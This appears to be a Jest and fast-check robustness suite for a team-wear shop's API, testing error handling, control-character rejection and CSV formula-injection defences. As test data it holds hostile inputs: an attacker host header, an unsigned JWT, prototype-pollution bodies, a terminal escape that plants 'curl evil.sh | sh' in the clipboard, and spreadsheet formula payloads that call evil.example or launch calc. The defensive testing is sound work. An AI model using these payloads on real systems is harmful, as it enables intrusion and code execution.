// Every operation of /api/openapi.json, fed generated and hostile paths, queries, headers and
// bodies, anonymous and signed in: no answer is a 5xx, every error has the API's { code, message }
// shape, and nothing hangs. The operations are read from the served document, so a new endpoint is
// covered by existing. Runs are reproducible: a failure prints fast-check's seed and counterexample.
import fc from 'fast-check';
import Papa from 'papaparse';
import { fromCsvCell, TokenResponse } from '@teamwear/shared/contracts';
import { recordAudit } from '../src/audit/audit-log';
import { withTenant } from '../src/db/tenant-scope';
import { createTestApp, DEMO, providerToken, registerUser, signIn, tenantIdOf, TENANT_ONE_HOST, TENANT_TWO_HOST, type TestContext } from './helpers';
import {
  arbitraryFor,
  textFieldsOf,
  validFor,
  withValueAt,
  fillPath,
  hostileJson,
  HOSTILE_STRINGS,
  operationsOf,
  textArbitraryFor,
  type JsonSchema,
  type OpenApiDocument,
  type Operation,
} from './support/openapi-arbitraries';

jest.setTimeout(170_000);

/** Generated requests per operation (three in five signed in). */
const RUNS_PER_OPERATION = Number(process.env.ROBUSTNESS_RUNS ?? 120);
/** An answer slower than this is a hang for this suite. */
const ANSWER_WITHIN_MS = 10_000;

let ctx: TestContext;
let openapi: OpenApiDocument;
let token: string;
/** The shop's administrator on the provider client: the shop's own operations are fuzzed past their door too. */
let adminToken: string;
/** Ids that exist: the signed-in user's, a design of theirs, a session, the shop's templates. */
const knownIds: string[] = [];

beforeAll(async () => {
  ctx = await createTestApp({ rateLimit: false });
  openapi = (await ctx.app.inject({ method: 'GET', url: '/api/openapi.json', headers: { host: TENANT_ONE_HOST } })).json();
  const user = await registerUser(ctx.app, TENANT_ONE_HOST);
  token = TokenResponse.parse((await signIn(ctx.app, TENANT_ONE_HOST, user)).json()).access_token;
  adminToken = await providerToken(ctx.app, TENANT_ONE_HOST, DEMO.one.admin);
  const claims = JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString('utf8')) as { sub: string; sid: string };
  const design = await ctx.app.inject({
    method: 'POST',
    url: '/api/designs',
    headers: { host: TENANT_ONE_HOST, authorization: `Bearer ${token}` },
    payload: { document: { schemaVersion: 2, product: 'soccer', teamName: 'Robust FC' } },
  });
  const templates = await ctx.app.inject({ method: 'GET', url: '/api/templates?type=SOCCER_KIT', headers: { host: TENANT_ONE_HOST } });
  knownIds.push(claims.sub, claims.sid, design.json().data.id, ...templates.json().data.map((template: { id: string }) => template.id));
  // A size collection of that design: its id and its public code are fuzzed as path values too.
  const collection = await ctx.app.inject({
    method: 'POST',
    url: '/api/collections',
    headers: { host: TENANT_ONE_HOST, authorization: `Bearer ${token}` },
    payload: {
      designId: design.json().data.id,
      title: 'Robust FC kit',
      deadline: new Date(ctx.clock.now().getTime() + 48 * 3600_000).toISOString(),
      pieces: ['main'],
      printNames: true,
      printNumbers: true,
    },
  });
  expect(collection.statusCode).toBe(201);
  knownIds.push(collection.json().data.id, collection.json().data.code);
});
afterAll(async () => {
  await ctx.close();
});

/**
 * A customer of their own, signed in now: the generated requests above may have signed the suite's
 * customer out (its session id is one of the known ids a DELETE is sent to).
 */
async function freshCustomerToken(): Promise<string> {
  const user = await registerUser(ctx.app, TENANT_ONE_HOST);
  return TokenResponse.parse((await signIn(ctx.app, TENANT_ONE_HOST, user)).json()).access_token;
}

interface GeneratedRequest {
  host: string;
  auth: 'none' | 'valid' | 'garbage';
  garbageAuth: string;
  params: Record<string, string>;
  rawPath: boolean;
  query: Record<string, string>;
  headers: Record<string, string>;
  body: { kind: 'json'; value: unknown } | { kind: 'text'; text: string; contentType: string } | { kind: 'none' };
}

function requestArbitrary(operation: Operation): fc.Arbitrary<GeneratedRequest> {
  const components = openapi.components?.schemas ?? {};
  const ofKind = (kind: string) => operation.parameters.filter((parameter) => parameter.in === kind);
  const textRecord = (kind: string) =>
    fc.record(
      Object.fromEntries(
        ofKind(kind).map((parameter) => [
          parameter.name,
          // Path parameters are often ids: real ones of the signed-in user and the shop reach the handlers' deeper paths.
          kind === 'path'
            ? fc.oneof(textArbitraryFor(parameter.schema, components, parameter.name), fc.constantFrom(...knownIds))
            : textArbitraryFor(parameter.schema, components, parameter.name),
        ]),
      ),
      {
        requiredKeys: kind === 'path' ? ofKind(kind).map((parameter) => parameter.name) : [],
      },
    );
  const body: fc.Arbitrary<GeneratedRequest['body']> = operation.body
    ? fc.oneof(
        { weight: 6, arbitrary: arbitraryFor(operation.body as JsonSchema, components).map((value) => ({ kind: 'json' as const, value })) },
        {
          weight: 1,
          arbitrary: fc.record({
            kind: fc.constant('text' as const),
            text: fc.oneof(fc.constantFrom('{', '{"a":', 'null', '[]', '"x"', '{"__proto__":{"x":1}}'), fc.string({ maxLength: 50 })),
            contentType: fc.constantFrom('application/json', 'text/plain', 'application/json; charset=utf-16', 'application/x-www-form-urlencoded'),
          }),
        },
        { weight: 1, arbitrary: fc.constant({ kind: 'none' as const }) },
      )
    : fc.oneof(fc.constant({ kind: 'none' as const }), hostileJson.map((value) => ({ kind: 'json' as const, value })));
  return fc.record({
    host: fc.oneof({ weight: 8, arbitrary: fc.constant(TENANT_ONE_HOST) }, { weight: 1, arbitrary: fc.constant(TENANT_TWO_HOST) }, {
      weight: 1,
      arbitrary: fc.constantFrom('unknown.example', 'localhost:3000@attacker.example', 'LOCALHOST.', '[::1]:80', 'a'.repeat(300)),
    }),
    auth: fc.constantFrom('none' as const, 'valid' as const, 'valid' as const, 'valid' as const, 'garbage' as const),
    garbageAuth: fc.constantFrom('Bearer ', 'Bearer x.y.z', 'Basic YTpi', 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.', `Bearer ${'a'.repeat(9000)}`),
    params: textRecord('path').map((record) => record as Record<string, string>),
    rawPath: fc.boolean(),
    query: fc
      .tuple(textRecord('query'), fc.option(fc.tuple(fc.constantFrom('x', 'page[]', '__proto__'), fc.constantFrom(...HOSTILE_STRINGS)), { nil: undefined }))
      .map(([record, extra]) => ({ ...(record as Record<string, string>), ...(extra ? { [extra[0]]: extra[1] } : {}) })),
    headers: textRecord('header').map((record) => record as Record<string, string>),
    body,
  });
}

function queryString(query: Record<string, string>): string {
  const parts = Object.entries(query).map(([key, value]) => {
    const safe = (text: string) => encodeURIComponent(text.replace(/[\uD800-\uDFFF]/g, '\uFFFD'));
    return `${safe(key)}=${safe(value)}`;
  });
  return parts.length ? `?${parts.join('&')}` : '';
}

/** Header values as HTTP can carry them (no control characters, Latin-1 only). */
function headerValue(value: string): string {
  return value.replace(/[^\x20-\x7e]/g, '?').slice(0, 4000);
}

interface Outcome {
  status: number;
  ms: number;
  body: string;
  contentType: string;
}

async function send(operation: Operation, request: GeneratedRequest): Promise<Outcome | null> {
  const headers: Record<string, string> = { host: request.host };
  for (const [name, value] of Object.entries(request.headers)) headers[name] = headerValue(value);
  if (request.auth === 'valid') headers.authorization = `Bearer ${operation.path.startsWith('/api/provider/') ? adminToken : token}`;
  if (request.auth === 'garbage') headers.authorization = request.garbageAuth;
  let payload: string | undefined;
  if (request.body.kind === 'json') {
    payload = JSON.stringify(request.body.value);
    headers['content-type'] = 'application/json';
  } else if (request.body.kind === 'text') {
    payload = request.body.text;
    headers['content-type'] = request.body.contentType;
  }
  const url = `${fillPath(operation.path, request.params, request.rawPath)}${queryString(request.query)}`;
  const started = performance.now();
  let timer: NodeJS.Timeout | undefined;
  const timeout = new Promise<'timeout'>((resolve) => (timer = setTimeout(() => resolve('timeout'), ANSWER_WITHIN_MS)));
  try {
    const answer = await Promise.race([
      ctx.app.inject({ method: operation.method as 'GET', url, headers, ...(payload === undefined ? {} : { payload }) }),
      timeout,
    ]);
    if (answer === 'timeout') return { status: 0, ms: ANSWER_WITHIN_MS, body: 'no answer', contentType: '' };
    return { status: answer.statusCode, ms: performance.now() - started, body: answer.body, contentType: String(answer.headers['content-type'] ?? '') };
  } catch (error) {
    // The test client itself refused to build the request (e.g. a URL it cannot parse): nothing was sent.
    if (error instanceof TypeError || error instanceof URIError) return null;
    throw error;
  } finally {
    clearTimeout(timer);
  }
}

/** What is wrong with an answer, or null. */
function problemWith(outcome: Outcome): string | null {
  if (outcome.status === 0) return `no answer within ${ANSWER_WITHIN_MS} ms`;
  if (outcome.status >= 500) return `answered ${outcome.status}: ${outcome.body.slice(0, 200)}`;
  if (outcome.status >= 400) {
    if (!outcome.contentType.includes('application/json')) return `error ${outcome.status} is not JSON (${outcome.contentType})`;
    let body: unknown;
    try {
      body = JSON.parse(outcome.body);
    } catch {
      return `error ${outcome.status} body is not JSON: ${outcome.body.slice(0, 100)}`;
    }
    const shaped = typeof body === 'object' && body !== null && typeof (body as { code?: unknown }).code === 'string' && typeof (body as { message?: unknown }).message === 'string';
    if (!shaped) return `error ${outcome.status} is not { code, message }: ${outcome.body.slice(0, 200)}`;
  }
  return null;
}

describe('robustness: every documented operation on generated and hostile input', () => {
  it('covers every operation of the OpenAPI document', () => {
    const operations = operationsOf(openapi);
    expect(operations.length).toBeGreaterThanOrEqual(30);
    // A sample that must be there: the suite reads the served document, not a list of its own.
    expect(operations.map((operation) => `${operation.method} ${operation.path}`)).toEqual(
      expect.arrayContaining(['POST /api/accounts/register', 'PUT /api/designs/{id}', 'GET /api/templates', 'POST /api/accounts/verifyemail']),
    );
  });

  it('answers no 5xx, only { code, message } errors, and always answers', async () => {
    const failures: string[] = [];
    const slowest = { ms: 0, operation: '' };
    for (const operation of operationsOf(openapi)) {
      const name = `${operation.method} ${operation.path}`;
      try {
        await fc.assert(
          fc.asyncProperty(requestArbitrary(operation), async (request) => {
            const outcome = await send(operation, request);
            if (!outcome) return;
            if (outcome.ms > slowest.ms) Object.assign(slowest, { ms: outcome.ms, operation: name });
            const problem = problemWith(outcome);
            if (problem) throw new Error(problem);
          }),
          { numRuns: RUNS_PER_OPERATION, endOnFailure: true },
        );
      } catch (error) {
        failures.push(`${name}: ${(error as Error).message.split('\n').slice(0, 6).join(' | ')}`);
      }
    }
    expect(failures).toEqual([]);
    expect(slowest.ms).toBeLessThan(ANSWER_WITHIN_MS);
  });

  it('refuses a control character in every text field of every body, naming the field', async () => {
    // What the issue typed into a name: erase the line and forge one, then write the clipboard (OSC 52).
    const ESCAPES = ['Dara\u001b[2K\r  proof approved', 'x\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007', 'A\u009b2J', 'So\u202ekha'];
    // Passwords keep every character (never shown, compared as typed: OWASP ASVS V6.2).
    const SECRETS = new Set(['password', 'newPassword', 'currentPassword', 'confirmPassword']);
    const admin = await providerToken(ctx.app, TENANT_ONE_HOST, DEMO.one.admin);
    const token = await freshCustomerToken();
    const components = openapi.components?.schemas ?? {};
    const failures: string[] = [];
    let checked = 0;
    for (const operation of operationsOf(openapi).filter((candidate) => candidate.body)) {
      const valid = fc.sample(validFor(operation.body as JsonSchema, components), { numRuns: 1, seed: 32 })[0];
      for (const field of textFieldsOf(operation.body as JsonSchema, components)) {
        if (SECRETS.has(String(field.path.at(-1)))) continue;
        const key = field.path.join('.');
        for (const escape of ESCAPES) {
          const payload = withValueAt(valid, field.path, escape);
          const url = fillPath(operation.path, Object.fromEntries(operation.parameters.filter((p) => p.in === 'path').map((p) => [p.name, knownIds[2] ?? 'x'])), false);
          // From the shop's own site, as its pages call (a hand-off is taken only from an allowed origin).
          const headers: Record<string, string> = { host: TENANT_ONE_HOST, origin: `http://${TENANT_ONE_HOST}`, 'idempotency-key': 'control-characters-1', 'client-id': 'web' };
          let answer = await ctx.app.inject({ method: operation.method as 'POST', url, headers: { ...headers, authorization: `Bearer ${token}` }, payload: payload as object });
          // The shop's own operations refuse a customer before reading the body: ask as its administrator.
          if (answer.statusCode === 401 || answer.statusCode === 403) answer = await ctx.app.inject({ method: operation.method as 'POST', url, headers: { ...headers, authorization: `Bearer ${admin}` }, payload: payload as object });
          checked += 1;
          const body = answer.json() as { fields?: Record<string, string> };
          const named = body.fields?.[key];
          // A field with a pattern or a format (ids, codes, colours, emails) refuses it in its own words.
          const ownWords = field.schema.pattern !== undefined || field.schema.format !== undefined;
          if (answer.statusCode !== 400 || !named || (!ownWords && !/cannot contain control characters/.test(named))) {
            failures.push(`${operation.method} ${operation.path} ${key} = ${JSON.stringify(escape)}: ${answer.statusCode} ${answer.body.slice(0, 160)}`);
          }
        }
      }
    }
    expect(failures).toEqual([]);
    expect(checked).toBeGreaterThan(100);
  });

  it('every CSV it serves opens in a spreadsheet without running a cell, whatever the customer typed', async () => {
    const FORMULAS = ['=HYPERLINK("http://evil.example","Click")', '+1+1', '-2+3', '@SUM(A1)', "x;=cmd|' /C calc'!A0", 'Chan, Vibol'];
    const headers = { host: TENANT_ONE_HOST, authorization: `Bearer ${await freshCustomerToken()}` };
    for (const [index, name] of FORMULAS.entries()) {
      const added = await ctx.app.inject({ method: 'POST', url: '/api/players', headers, payload: { name, number: index, size: 'M', team: name.slice(0, 40) } });
      expect(added.statusCode).toBe(201);
    }
    // The shop's customers named so too (the back office's export): as typed, behind the sign-up form's back.
    for (const name of FORMULAS) {
      const user = await registerUser(ctx.app, TENANT_ONE_HOST);
      await ctx.db.updateTable('users').set({ first_name: name, last_name: '', phone: name }).where('email', '=', user.email).execute();
    }
    // And the audit log's subjects (what the team typed: a team name, a template's name), written as typed.
    const shopOne = await tenantIdOf(ctx.db, 'angkor');
    const shopOwner = await ctx.db.selectFrom('users').select('id').where('email', '=', DEMO.one.admin.email).executeTakeFirstOrThrow();
    for (const name of FORMULAS) {
      await withTenant(ctx.db, shopOne, (tx) => recordAudit(tx, { tenantId: shopOne, actorId: shopOwner.id, area: 'templates', action: 'template.renamed', subject: name }));
    }
    const shopHeaders = { host: TENANT_ONE_HOST, authorization: `Bearer ${await providerToken(ctx.app, TENANT_ONE_HOST, DEMO.one.admin)}` };
    const csvOperations = operationsOf(openapi).filter((operation) => operation.method === 'GET' && operation.produces.includes('text/csv'));
    const CARRY_TYPED_TEXT = ['/api/players/export', '/api/provider/customers.csv', '/api/provider/audit.csv'];
    expect(csvOperations.map((operation) => operation.path)).toEqual(expect.arrayContaining(CARRY_TYPED_TEXT));
    for (const operation of csvOperations) {
      const answer = await ctx.app.inject({ method: 'GET', url: operation.path, headers: operation.path.startsWith('/api/provider/') ? shopHeaders : headers });
      expect(answer.statusCode).toBe(200);
      const text = answer.body.replace(/^\uFEFF/, '').trimEnd();
      // Read as Excel does with a comma, and where its list separator is a semicolon: no cell starts a formula.
      for (const delimiter of [',', ';']) {
        const cells = Papa.parse<string[]>(text, { delimiter }).data.flat();
        expect({ delimiter, formulas: cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)) }).toEqual({ delimiter, formulas: [] });
      }
      // And the import reads back what was typed (in the exports that carry typed text).
      if (!CARRY_TYPED_TEXT.includes(operation.path)) continue;
      const read = Papa.parse<string[]>(text, { delimiter: ',' }).data.flat().map(fromCsvCell);
      expect(read).toEqual(expect.arrayContaining(FORMULAS));
    }
  });
});

